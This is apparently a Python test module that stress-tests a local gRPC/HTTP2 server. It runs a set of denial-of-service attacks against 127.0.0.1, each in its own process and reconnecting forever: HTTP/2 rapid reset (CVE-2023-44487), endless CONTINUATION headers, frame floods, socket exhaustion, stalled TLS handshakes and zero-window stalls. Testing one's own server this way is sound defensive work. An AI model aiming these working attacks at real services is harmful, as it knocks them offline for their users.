"""Attacks on a port. Each runs until its time is over, in a process of its own, and connects again whenever it is thrown out."""

import contextlib
import itertools
import multiprocessing
import os
import resource
import selectors
import socket
import struct
import time
import warnings

from tests.hostile import http2, messages
from tests.hostile.http2 import Connection, envelope, frame

# Streams or frames that are sent at once.
BATCH = 500
# Calls in progress of an attacker: fewer than the streams that a connection may have.
CALLS_AT_ONCE = 100
LEAST_PRIORITY = 19
# Agencies that others attack from the same address share its rate of new connections.
ADDRESS = "127.0.0.66"


class Attack:
    """Runs a function with these arguments while the context lasts, and records in a file what it receives."""

    def __init__(self, function, *arguments):
        self.function, self.arguments = function, arguments

    @staticmethod
    def run(recording, function, *arguments):
        # A real attacker does not take the processor from the server.
        os.nice(LEAST_PRIORITY)
        warnings.simplefilter("ignore", ResourceWarning)
        Connection.source = ADDRESS
        Connection.recording = open(recording, "ab", buffering=0)
        function(*arguments)

    def begin(self, recording):
        self.process = multiprocessing.Process(target=self.run, args=(recording, self.function, *self.arguments), daemon=True)
        self.process.start()

    def end(self):
        self.process.terminate()
        self.process.join()


def again_and_again(attack):
    """Repeats an attack, whatever the server does about it."""
    def repeated(*arguments):
        while True:
            try:
                attack(*arguments)
            except OSError:
                time.sleep(0.01)
    return repeated


def hold_sockets(port, source, number):
    """Opens bare sockets as fast as possible and never says anything. Opens each again that the server closes."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    selector = selectors.EpollSelector()

    def open_one():
        one = socket.socket()
        one.setblocking(False)
        one.bind((source, 0))
        one.connect_ex(("127.0.0.1", port))
        selector.register(one, selectors.EVENT_READ)

    for _ in range(number):
        open_one()
    while True:
        for key, _ in selector.select()[:BATCH]:
            selector.unregister(key.fileobj)
            key.fileobj.close()
            open_one()
        # Otherwise the attack takes the processor from the server, if both are on one machine.
        time.sleep(0.1)


@again_and_again
def reset_streams(port, pki, certificate):
    """Opens streams and resets each at once (CVE-2023-44487)."""
    block = http2.headers_of(messages.LIST)
    with Connection(port, pki, certificate) as connection:
        while True:
            streams = [connection.next_stream() for _ in range(BATCH)]
            connection.send(b"".join(
                frame(http2.HEADERS, http2.END_HEADERS, stream, block)
                + frame(http2.RST_STREAM, 0, stream, struct.pack(">I", http2.CANCEL)) for stream in streams))
            connection.read_what_came()


@again_and_again
def never_end_headers(port, pki, certificate):
    """Sends one header in CONTINUATION frames for ever (CVE-2023-33953)."""
    endless = b"\0" + http2.text("x") + http2.length_of(1 << 27, 7, 0)
    with Connection(port, pki, certificate) as connection:
        stream = connection.next_stream()
        connection.send(frame(http2.HEADERS, 0, stream, http2.headers_of(messages.LIST) + endless))
        while True:
            connection.send(frame(http2.CONTINUATION, 0, stream, b"x" * http2.FRAME_BYTES))


@again_and_again
def flood(port, pki, certificate, kind, payload):
    """Sends frames that belong to no call."""
    with Connection(port, pki, certificate) as connection:
        while True:
            connection.send(frame(kind, 0, 0, payload) * BATCH)


@again_and_again
def send_without_handshake(port, source):
    """Sends a TLS record whose handshake message never ends."""
    with socket.create_connection(("127.0.0.1", port), source_address=(source, 0)) as connection:
        fragment = b"\x16\x03\x01\x40\x00"
        message = b"\x01\xff\xff\xff"
        for part in itertools.chain([message], itertools.repeat(b"")):
            connection.sendall(fragment + part.ljust(0x4000, b"x"))


@again_and_again
def connect_without_certificate(port, pki, source):
    """Makes the server do the expensive half of a handshake that it must refuse."""
    Connection(port, pki, None, source).read_frame()


@again_and_again
def call(port, pki, certificate, path, make_message=bytes, metadata=None):
    """Makes calls as fast as they are answered, many at a time."""
    headers = http2.headers_of(path, **(metadata or {}))
    with Connection(port, pki, certificate) as connection:
        while True:
            connection.replies([connection.send_call(headers, envelope(make_message())) for _ in range(CALLS_AT_ONCE)])


@again_and_again
def call_once(port, pki, certificate, path, make_message=bytes, metadata=None):
    """Makes one call on each connection."""
    with Connection(port, pki, certificate) as connection:
        connection.exchange(path, make_message(), **(metadata or {}))


@again_and_again
def send_compressed(port, pki, certificate, path, message):
    """Sends messages that say that they are compressed with gzip."""
    headers = http2.headers_of(path, grpc_encoding="gzip")
    with Connection(port, pki, certificate) as connection:
        while True:
            connection.replies([connection.send_call(headers, envelope(message, compressed=True)) for _ in range(CALLS_AT_ONCE)])


@again_and_again
def send_half_of_messages(port, pki, certificate, path, connections, streams):
    """Opens connections and streams, sends as much of a message on each as its window allows, and waits."""
    headers = http2.headers_of(path)
    part = envelope(bytes(2 * http2.FIRST_WINDOW))[:http2.FIRST_WINDOW]
    with contextlib.ExitStack() as stack:
        opened = [stack.enter_context(Connection(port, pki, certificate)) for _ in range(connections)]
        for connection in opened:
            for _ in range(streams):
                stream = connection.next_stream()
                connection.send(frame(http2.HEADERS, http2.END_HEADERS, stream, headers))
                for i in range(0, len(part), http2.FRAME_BYTES):
                    connection.send_within_window(stream, part[i:i + http2.FRAME_BYTES])
        while True:
            for connection in opened:
                connection.read_what_came()
            time.sleep(0.1)


@again_and_again
def send_message_without_end(port, pki, certificate, path):
    """Sends a message that is said to be as long as a message of gRPC can be."""
    with Connection(port, pki, certificate) as connection:
        stream = connection.next_stream()
        connection.send(frame(http2.HEADERS, http2.END_HEADERS, stream, http2.headers_of(path)))
        connection.send(frame(http2.DATA, 0, stream, struct.pack(">?I", False, (1 << 32) - 1)))
        while True:
            connection.send(frame(http2.DATA, 0, stream, bytes(http2.FRAME_BYTES)))
            connection.read_what_came()


@again_and_again
def never_read_replies(port, pki, certificate, path, message, metadata):
    """Makes calls whose replies it does not let through, as many as it can."""
    headers = http2.headers_of(path, **metadata)
    with Connection(port, pki, certificate, but={http2.INITIAL_WINDOW_SIZE: 0}) as connection:
        for _ in range(CALLS_AT_ONCE):
            connection.send(http2.call_frames(connection.next_stream(), headers, envelope(message)))
        while True:
            connection.read_frame()
